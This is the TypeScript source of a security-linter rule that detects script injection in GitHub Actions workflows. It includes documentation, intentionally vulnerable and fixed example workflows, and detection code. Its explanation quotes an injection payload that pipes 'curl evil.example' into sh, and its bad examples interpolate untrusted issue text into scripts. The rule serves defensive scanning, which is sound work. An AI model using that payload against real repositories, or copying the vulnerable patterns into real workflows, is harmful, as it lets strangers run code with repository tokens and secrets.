import { exampleFiles } from '../../example-files.ts'
import type { WordyConfigurationRule, Remark } from '../../remark.ts'
import type { SettingsFile } from '../settings-file.ts'
import { entriesOf, type ScalarValue, textOf, under, type Value } from '../../../inventory/settings-files/value.ts'
import { expressionsIn, wordsIn } from './expressions.ts'
import { type Job, privilegedOf, type Step, type Workflow, workflowOf } from './workflow.ts'

export const workflowScriptInjection: WordyConfigurationRule = {
  document: {
    id: 'workflow-script-injection',
    title: 'Words of strangers become part of a script in a workflow',
    category: 'configuration',
    severity: 'high',
    precision: 'medium',
    cwe: ['CWE-78', 'CWE-94'],
    owaspMcp: ['MCP04:2025', 'MCP05:2025'],
    safeMcp: ['SAFE-T1002'],
    what:
      'A workflow of GitHub puts a title, a text or a branch name that anybody may choose into a script with ' +
      '`${{ … }}`, directly or by way of `env`. Such expressions are filled in before the script is read.',
    why:
      'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, in most ' +
      "of these events, with the secrets of the repository: what it publishes is then the stranger's.",
    remediation:
      'Hand the value over in `env:` and use it as a variable of the shell in quotes: `env: { TITLE: ${{ ' +
      'github.event.issue.title }} }` and `"$TITLE"`.',
    examples: {
      bad: [
        exampleFiles({
          '.github/workflows/greet.yml':
            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
            'steps:\n      - run: echo "New issue ${{ github.event.issue.title }}"',
        }),
        exampleFiles({
          '.github/workflows/answer.yml':
            'on:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: write\njobs:\n  ' +
            'answer:\n    runs-on: ubuntu-24.04\n    env:\n      COMMENT: ${{ github.event.comment.body ' +
            '}}\n    steps:\n      - run: |\n          echo "${{ env.COMMENT }}" >> words.txt',
        }),
      ],
      good: [
        exampleFiles({
          '.github/workflows/greet.yml':
            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
            'steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "New ' +
            'issue $TITLE"',
        }),
        exampleFiles({
          '.github/workflows/count.yml':
            'on: issues\npermissions: {}\njobs:\n  count:\n    runs-on: ubuntu-24.04\n    steps:\n      - ' +
            'run: echo "Issue ${{ github.event.issue.number }}, a bug ${{ ' +
            "contains(github.event.issue.title, 'bug') }}\"",
        }),
      ],
    },
  },
  kinds: ['workflow', 'action'],
  *find(file) {
    const workflow = workflowOf(file)
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        const tainted = [workflow.env, under(job.value, 'env'), under(step.value, 'env')].map(namesOfStrangersWords)
        for (const script of scriptsOf(step))
          yield* injected(file, workflow, job, script, (name) => tainted.some((names) => names.has(name)))
      }
    }
  },
}

/** Inputs of actions that are scripts or commands, such as `script` of `actions/github-script`. */
const scriptInput = /^(?:script|run|inline-?script|commands?|cmd|bash|shell-?command|code)$/i

const scriptsOf = ({ run, with: inputs }: Step): ScalarValue[] => [
  ...(run ? [run] : []),
  ...inputs.flatMap(({ key, value }) => (scriptInput.test(key) && value.kind === 'scalar' ? [value] : [])),
]

/**
 * What is known of a mapping of variables and of a script: thousands of steps may have the same ones, and looking takes
 * time.
 */
const namesOf = new WeakMap<Value, ReadonlySet<string>>()
const wordsOf = new WeakMap<ScalarValue, readonly PutIn[]>()

function namesOfStrangersWords(env: Value | undefined): ReadonlySet<string> {
  if (!env) return new Set()
  const names =
    namesOf.get(env) ??
    new Set(
      entriesOf(env)
        .filter(({ value }) =>
          expressionsIn(textOf(value) ?? '').some((expression) => wordsIn(expression).strangers !== undefined),
        )
        .map(({ key }) => key),
    )
  namesOf.set(env, names)
  return names
}

function* injected(
  file: SettingsFile,
  workflow: Workflow,
  { id, permissions }: Job,
  script: ScalarValue,
  isTainted: (name: string) => boolean,
): Generator<Remark> {
  for (const { words, text, variable } of injections(script)) {
    if (variable !== undefined && !isTainted(variable)) continue
    const privileged = privilegedOf(workflow)
    const harmless = isHarmless(
      textOf((permissions ?? workflow.permissions)?.value),
      permissions ?? workflow.permissions,
    )
    const rights = privileged.length > 0 && !harmless
    yield {
      title: `\`${words}\` becomes part of a script in ${file.path}`,
      message:
        `The job ${id} puts \`${words}\`, which ` +
        `${privileged.length > 0 ? 'anybody' : 'whoever opens a pull request or writes a commit'} may choose, ` +
        'into a script before it is read. ' +
        `${
          rights
            ? `On ${privileged.join(' and ')} it runs with the token and the secrets of the repository.`
            : 'What it starts runs with what this run may do.'
        }`,
      subject: `${id} ${words}`,
      at: file.placeAt(file.offsetOf(text, script.offset)),
      severity: rights ? 'high' : 'medium',
    }
  }
}

/** Words that a script is made of. */
interface PutIn {
  readonly words: string
  /** As it is written. */
  readonly text: string
  /** They are a stranger's only if this variable holds such. */
  readonly variable?: string
}

/** Words in a script, once each: those that an expression puts in, and variables that the script evaluates again. */
function injections(script: ScalarValue): readonly PutIn[] {
  const known = wordsOf.get(script)
  if (known) return known
  const found = new Map<string, PutIn>()
  for (const expression of expressionsIn(script.text)) {
    const { strangers, variable } = wordsIn(expression)
    const words = strangers ?? (variable === undefined ? undefined : `env.${variable}`)
    if (words !== undefined && !found.has(words))
      found.set(words, { words, text: expression.text, ...(variable !== undefined && { variable }) })
  }
  for (const [text, name = ''] of script.text.matchAll(
    /\b(?:eval|(?:ba|z|da)?sh -c)\s[^\n]{0,200}?\$\{?(\w{1,100})/g,
  )) {
    if (!found.has(name)) found.set(name, { words: name, text, variable: name })
  }
  const words = [...found.values()]
  wordsOf.set(script, words)
  return words
}

/** Without any right of the token: `permissions: {}` or `read-all`. Secrets of its own a job may still have. */
function isHarmless(text: string | undefined, permissions: { readonly value: Value } | undefined): boolean {
  return (
    text === 'read-all' ||
    (permissions?.value.kind === 'mapping' &&
      permissions.value.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
  )
}
